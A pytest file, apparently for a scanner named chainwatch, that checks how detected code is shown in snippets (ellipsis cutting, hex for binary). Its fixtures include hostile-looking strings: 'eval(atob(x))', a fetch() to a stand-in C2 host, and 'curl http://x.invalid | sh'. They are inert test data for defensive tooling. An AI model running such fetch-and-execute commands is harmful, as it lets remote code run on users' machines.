"""Snippets a person reads: cut with an ellipsis, binary shown as hex."""

from __future__ import annotations

from chainwatch.analysis.text import SNIPPET_WIDTH, LineIndex


def test_a_long_line_is_cut_with_ellipses_around_the_match() -> None:
    data = b"a" * 500 + b"eval(atob(x))" + b"b" * 500 + b"\nnext line"
    shown = LineIndex(data).snippet(500, 13)
    assert "eval(atob(x))" in shown
    assert shown.startswith("…") and shown.endswith("…")
    assert len(shown) <= SNIPPET_WIDTH + 2


def test_a_whole_short_line_has_no_ellipsis() -> None:
    data = b"first\n  fetch('https://c2.example.invalid')  \nlast"
    assert LineIndex(data).snippet(data.index(b"fetch"), 5) == \
        "fetch('https://c2.example.invalid')"


def test_binary_content_is_hex_never_raw_bytes() -> None:
    data = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4 + b"curl http://x.invalid | sh"
    shown = LineIndex(data).snippet(data.index(b"curl"), 4)
    assert shown.startswith("binary data at byte ")
    assert "63 75 72 6c" in shown  # "curl" in hex
    assert all(c.isprintable() for c in shown)
